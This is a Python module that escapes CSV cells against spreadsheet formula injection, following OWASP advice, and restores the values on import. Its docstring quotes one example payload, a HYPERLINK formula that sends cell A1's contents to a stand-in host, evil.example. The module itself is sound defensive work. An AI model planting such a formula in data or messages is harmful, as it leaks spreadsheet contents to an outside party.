"""CSV cells a spreadsheet will not run: the defence against formula injection.

Much of what mxspool writes to CSV comes from strangers: a MAIL FROM of
``=HYPERLINK("http://evil.example/?"&A1,"click")`` or a remote server's reply would open as a
live formula in Excel or LibreOffice. As OWASP advises, a text cell that starts with ``=``,
``+``, ``-``, ``@``, a tab or a carriage return gets a single quote in front, which
spreadsheets show as text and do not evaluate (so does one starting with quotes and then one of
those, so that the quote can be taken off again without doubt). Numbers are written as they
are (a count is never negative). The JSON forms are exact and never escaped.

Every CSV writer goes through ``csv_cells``; a reader of such a file (``recipients import``)
undoes it with ``read_cell``, so a value survives the round trip.
"""

from __future__ import annotations

from collections.abc import Iterable

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
"""First characters that make a spreadsheet read a cell as a formula (OWASP, CSV Injection)."""
QUOTE = "'"


def csv_cell(value: object) -> str:
    """``value`` as one CSV cell: None is empty, text that could be a formula is quoted."""
    if value is None:
        return ""
    if isinstance(value, bool) or not isinstance(value, str):
        return str(value)
    return QUOTE + value if _formula_like(value) else value


def csv_cells(values: Iterable[object]) -> list[str]:
    """One row's cells for ``csv.writer.writerow``."""
    return [csv_cell(value) for value in values]


def read_cell(text: str) -> str:
    """The value ``csv_cell`` was given: its added quote, and only that, is dropped."""
    return text[1:] if text.startswith(QUOTE) and _formula_like(text[1:]) else text


def _formula_like(text: str) -> bool:
    # Leading quotes count too, so that "'=x" is written "''=x" and reads back exactly.
    return text.lstrip(QUOTE).startswith(TRIGGERS)
